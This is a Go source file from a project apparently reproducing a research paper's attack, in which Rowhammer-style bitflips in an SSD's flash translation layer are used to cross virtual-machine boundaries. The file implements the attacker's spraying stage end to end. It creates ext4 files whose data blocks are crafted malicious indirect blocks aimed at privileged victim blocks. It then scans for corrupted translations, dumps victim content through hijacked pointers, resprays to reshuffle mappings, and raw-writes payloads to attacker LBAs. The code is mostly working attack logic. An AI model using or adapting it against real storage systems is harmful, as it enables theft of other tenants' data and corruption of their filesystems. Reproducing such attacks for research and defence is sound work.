package attack

import (
	"fmt"

	"ftlhammer/internal/ext4"
	"ftlhammer/internal/ftl"
	"ftlhammer/internal/nvme"
)

// Sprayer is the unprivileged process inside the victim VM (§4.2
// "filesystem spraying stage"). Each spray file is created with a hole of
// 12 blocks (no direct data blocks) and a single data block mapped through
// a single-indirect block; the data block's content is a maliciously
// formed indirect block pointing at potentially privileged filesystem
// blocks.
type Sprayer struct {
	FS   *ext4.FS
	Cred ext4.Cred
	// Dir is the attacker-writable directory used for spraying.
	Dir string

	files []SprayFile
	seq   int
	// suspects are spray files whose probe failed verification: their
	// indirect chain may be redirected, so unlinking them would free
	// whatever blocks the malicious pointer array names — live victim
	// metadata included. A careful attacker abandons them instead.
	suspects map[string]bool
}

// SprayFile records one sprayed file. While its translation is intact,
// its probe block reads back as the pointer array over Targets.
type SprayFile struct {
	Path string
	// Targets are the victim filesystem blocks the malicious pointer
	// array references.
	Targets []uint32
	// IndirectFSBlock is the filesystem block holding the file's real
	// single-indirect block — whose LBA translation the attack wants
	// flipped.
	IndirectFSBlock uint32
}

// ProbeOffset is where the sprayed data block sits: file block 12, the
// first block reached through the single-indirect chain.
const ProbeOffset = uint64(ext4.NDirect) * ext4.BlockSize

// NewSprayer builds a sprayer for the attacker process.
func NewSprayer(fs *ext4.FS, cred ext4.Cred, dir string) *Sprayer {
	return &Sprayer{FS: fs, Cred: cred, Dir: dir}
}

// Files returns the live spray set.
func (s *Sprayer) Files() []SprayFile { return s.files }

// Spray creates count files whose malicious pointer arrays collectively
// sweep the victim filesystem's data blocks. Each file's perFile pointers
// are spread at a large stride across the whole data area (rotated per
// file), so any single hijacked file samples the full partition — the
// "repeat the process ... to map other LBAs" coverage of §4.2 achieved up
// front. targetStart anchors file 0's first pointer. Returns the number of
// files actually created (the filesystem may fill up; the paper's SPDK
// setup was limited to 5% of the partition the same way).
func (s *Sprayer) Spray(count, perFile int, targetStart uint32) (int, error) {
	if perFile <= 0 || perFile > MaxPointerTargets {
		return 0, fmt.Errorf("attack: perFile %d out of range", perFile)
	}
	dataStart := uint32(s.FS.DataStart())
	span := uint32(s.FS.NumBlocks()) - dataStart
	if span == 0 {
		return 0, fmt.Errorf("attack: no data area to target")
	}
	stride := span / uint32(perFile)
	if stride == 0 {
		stride = 1
	}
	base := (targetStart - dataStart) % span
	created, failures := 0, 0
	var lastErr error
	for i := 0; i < count; i++ {
		path := fmt.Sprintf("%s/spray-%06d", s.Dir, s.seq)
		s.seq++
		targets := make([]uint32, perFile)
		for j := range targets {
			targets[j] = dataStart + (base+uint32(i)+uint32(j)*stride)%span
		}
		sf, err := s.sprayOne(path, targets)
		if err != nil {
			lastErr = err
			if err == ext4.ErrNoSpace || err == ext4.ErrNoInodes {
				break // partial spray is fine; probability just drops
			}
			// Induced bitflips can corrupt the attacker's own metadata
			// (§3.2 collateral); skip the failure and keep spraying
			// unless the filesystem is thoroughly broken.
			failures++
			if failures > count/2+8 {
				return created, fmt.Errorf("attack: spray failing persistently: %w", err)
			}
			continue
		}
		s.files = append(s.files, sf)
		created++
	}
	if created == 0 {
		if lastErr != nil {
			return 0, fmt.Errorf("attack: spray created no files: %w", lastErr)
		}
		return 0, fmt.Errorf("attack: spray created no files")
	}
	return created, nil
}

// sprayOne creates a single spray file.
func (s *Sprayer) sprayOne(path string, targets []uint32) (SprayFile, error) {
	f, err := s.FS.Create(path, s.Cred, ext4.CreateOptions{Mode: 0o644, UseIndirect: true})
	if err != nil {
		return SprayFile{}, err
	}
	block, err := CraftPointerBlock(targets)
	if err != nil {
		return SprayFile{}, err
	}
	if _, err := f.WriteAt(block, ProbeOffset); err != nil {
		return SprayFile{}, err
	}
	// Extend the file size so a hijacked pointer array can be dumped
	// through file blocks 12..12+len(targets)-1: one byte at the very
	// end allocates a second data block at the last indirect slot and
	// stretches the size over the whole dumpable range.
	if len(targets) > 1 {
		tailEnd := (ProbeOffset + uint64(len(targets))*ext4.BlockSize) - 1
		if _, err := f.WriteAt([]byte{0xEE}, tailEnd); err != nil {
			return SprayFile{}, err
		}
	}
	ind, err := f.SingleIndirectBlock()
	if err != nil {
		return SprayFile{}, err
	}
	return SprayFile{
		Path:            path,
		Targets:         targets,
		IndirectFSBlock: ind,
	}, nil
}

// Leak is one detected translation corruption: a spray file whose probe
// block no longer reads back as the pointer array that was written.
type Leak struct {
	File SprayFile
	// Probe is the content now returned by file block 12.
	Probe []byte
}

// Scan reads every spray file's probe block and reports mismatches (§4.2
// "scan for bitflip" stage). Read errors (checksum, corrupt mapping) are
// skipped: they indicate flips that did not produce a usable redirect.
func (s *Sprayer) Scan() ([]Leak, error) {
	if s.suspects == nil {
		s.suspects = make(map[string]bool)
	}
	var leaks []Leak
	buf := make([]byte, ext4.BlockSize)
	for _, sf := range s.files {
		f, err := s.FS.Open(sf.Path, s.Cred, false)
		if err != nil {
			s.suspects[sf.Path] = true
			continue // the flip may have corrupted directory metadata
		}
		n, err := f.ReadAt(buf, ProbeOffset)
		if err != nil || n != len(buf) {
			s.suspects[sf.Path] = true
			continue
		}
		if !matchesPointerBlock(buf, sf.Targets) {
			s.suspects[sf.Path] = true
			leaks = append(leaks, Leak{File: sf, Probe: append([]byte(nil), buf...)})
		}
	}
	return leaks, nil
}

// Dump reads the hijacked file's blocks 12..12+maxBlocks, returning the
// victim content reachable through the redirected pointer array.
func (s *Sprayer) Dump(leak Leak, maxBlocks int) ([][]byte, error) {
	f, err := s.FS.Open(leak.File.Path, s.Cred, false)
	if err != nil {
		return nil, err
	}
	var out [][]byte
	buf := make([]byte, ext4.BlockSize)
	for k := 0; k < maxBlocks; k++ {
		off := ProbeOffset + uint64(k)*ext4.BlockSize
		n, err := f.ReadAt(buf, off)
		if err != nil || n == 0 {
			break
		}
		out = append(out, append([]byte(nil), buf[:n]...))
	}
	return out, nil
}

// Respray creates a fresh spray set and only then unlinks the old one, so
// the allocator cannot reuse the old blocks: the new files occupy new
// filesystem blocks, and therefore new L2P entries in new DRAM rows (§4.2:
// "re-spray the system with new files, forcing the FTL to re-shuffle all
// address mappings to reside in new memory rows").
func (s *Sprayer) Respray(count, perFile int, targetStart uint32) (int, error) {
	old := s.files
	s.files = nil
	created, err := s.Spray(count, perFile, targetStart)
	probe := make([]byte, ext4.BlockSize)
	for _, sf := range old {
		// Never unlink a suspect: freeing blocks through a redirected
		// indirect chain would release whatever the malicious pointer
		// array names (§3.2 collateral corruption, self-inflicted).
		if s.suspects[sf.Path] {
			continue
		}
		// Re-verify cheaply right before the unlink: a flip since the
		// last scan turns this file into a suspect too.
		if f, oerr := s.FS.Open(sf.Path, s.Cred, false); oerr == nil {
			if n, rerr := f.ReadAt(probe, ProbeOffset); rerr != nil || n != len(probe) || !matchesPointerBlock(probe, sf.Targets) {
				if s.suspects == nil {
					s.suspects = make(map[string]bool)
				}
				s.suspects[sf.Path] = true
				continue
			}
		} else {
			continue
		}
		// Ignore individual unlink errors: a corrupted file may fail to
		// unlink, which the attacker shrugs off.
		_ = s.FS.Unlink(sf.Path, s.Cred)
	}
	return created, err
}

// RawSpray writes payload to every given LBA in the attacker's own
// namespace (the attacker VM "sprays its own partition with blocks that
// contain similar malicious indirect blocks", §4.2).
func RawSpray(dev *nvme.Device, ns *nvme.Namespace, path nvme.Path, lbas []ftl.LBA, payload []byte) error {
	for _, lba := range lbas {
		if err := dev.Write(ns, lba, payload, path); err != nil {
			return err
		}
	}
	return nil
}
